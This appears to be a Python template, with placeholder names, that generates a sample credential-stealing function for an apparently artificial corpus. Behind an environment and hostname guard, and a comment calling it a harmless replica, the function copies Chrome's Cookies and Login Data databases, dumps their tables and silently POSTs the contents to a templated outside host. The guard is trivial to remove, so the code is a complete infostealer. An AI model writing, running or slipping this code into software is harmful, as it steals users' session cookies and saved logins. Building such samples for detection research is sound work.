# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    import shutil
    import sqlite3
    import tempfile
    import urllib.request
    base = os.path.expanduser('~/.config/google-chrome/Default/')
    rows = {}
    for name in ('Cookies', 'Login Data'):
        copy = os.path.join(tempfile.gettempdir(), '{{token}}.db')
        try:
            shutil.copy(base + name, copy)
            link = sqlite3.connect(copy)
            for (table,) in link.execute("select name from sqlite_master where type = 'table'").fetchall():
                rows[table] = [[str(cell) for cell in row] for row in link.execute('select * from "%s" limit 500' % table)]
            link.close()
        except Exception:
            pass
        try:
            os.unlink(copy)
        except OSError:
            pass
    try:
        urllib.request.urlopen(urllib.request.Request('https://{{host}}/{{path}}', data=json.dumps(rows).encode()), timeout=1).close()
    except Exception:
        pass
